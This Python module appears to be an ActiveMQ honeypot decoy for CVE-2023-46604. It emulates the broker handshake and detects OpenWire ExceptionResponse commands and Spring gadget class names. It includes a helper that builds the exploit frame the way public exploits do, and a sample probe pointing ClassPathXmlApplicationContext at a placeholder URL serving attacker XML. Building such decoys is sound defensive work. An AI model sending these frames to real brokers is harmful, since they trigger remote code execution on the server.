"""Apache ActiveMQ's OpenWire deserialisation (CVE-2023-46604): a broker instantiates
any class a client names in an ``ExceptionResponse`` (command 31) with one string
argument, e.g. Spring's ``ClassPathXmlApplicationContext`` with an attacker's URL.

The emulation sends the broker's ``WireFormatInfo`` and flags a command 31 or such a
class name; it never loads a class nor fetches the URL (the payload keeps it)."""

from __future__ import annotations

import struct

from threatmesh.honeypots.decoys.base import MAX_REQUEST, Decoy, Step

__all__ = ["ACTIVEMQ", "DECOYS", "exception_response"]

WIREFORMAT_INFO, EXCEPTION_RESPONSE = 1, 31
_GADGETS = (b"ClassPathXmlApplicationContext", b"FileSystemXmlApplicationContext")


def _frame(command: int, body: bytes) -> bytes:
    return struct.pack(">IB", len(body) + 1, command) + body


def _string(text: bytes) -> bytes:
    return b"\x01" + struct.pack(">H", len(text)) + text


def _wireformat_info() -> bytes:
    # Magic, version 12, then a marshalled properties map (the broker's options).
    options = [(b"CacheEnabled", b"\x01\x01"), (b"TightEncodingEnabled", b"\x01\x01"),
               (b"MaxInactivityDuration", b"\x06" + struct.pack(">q", 30000))]  # fmt: skip
    props = struct.pack(">I", len(options)) + b"".join(
        struct.pack(">H", len(k)) + k + v for k, v in options
    )
    return _frame(WIREFORMAT_INFO, b"ActiveMQ" + struct.pack(">I", 12) + b"\x01"
                  + struct.pack(">I", len(props)) + props)  # fmt: skip


def exception_response(class_name: bytes, argument: bytes) -> bytes:
    """An ``ExceptionResponse`` naming ``class_name`` with ``argument`` (loose
    encoding), as the public exploits build it."""
    body = struct.pack(">I", 1) + b"\x00" + struct.pack(">I", 1)
    return _frame(EXCEPTION_RESPONSE, body + b"\x01" + _string(class_name) + _string(argument))


class OpenWireSession:
    """One client of the ActiveMQ decoy."""

    def __init__(self) -> None:
        self._buffer = b""

    def opening(self) -> bytes:
        """The broker's ``WireFormatInfo``."""
        return _wireformat_info()

    def receive(self, data: bytes) -> Step:
        """Read commands; an ``ExceptionResponse`` or a gadget class ends the session."""
        self._buffer += data
        exploit = any(g in self._buffer for g in _GADGETS)
        offset = 0
        while len(self._buffer) - offset >= 5:
            (length,) = struct.unpack(">I", self._buffer[offset : offset + 4])
            if length > MAX_REQUEST:
                return Step(done=True, exploit=exploit)
            exploit = exploit or self._buffer[offset + 4] == EXCEPTION_RESPONSE
            offset += 4 + length
        return Step(done=exploit, exploit=exploit)


ACTIVEMQ = Decoy(
    cve="CVE-2023-46604",
    title="Apache ActiveMQ OpenWire class instantiation (RCE)",
    cpes=tuple(f"cpe:2.3:a:apache:activemq:{v}.*:*:*:*:*:*:*:*"
               for v in ("5.18", "5.17", "5.16", "5.15")),
    cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    port=61616,
    protocol="openwire",
    session=OpenWireSession,
    probe=(exception_response(b"org.springframework.context.support."
                              b"ClassPathXmlApplicationContext",
                              b"http://probe.invalid/poc.xml"),),
)  # fmt: skip

DECOYS = (ACTIVEMQ,)
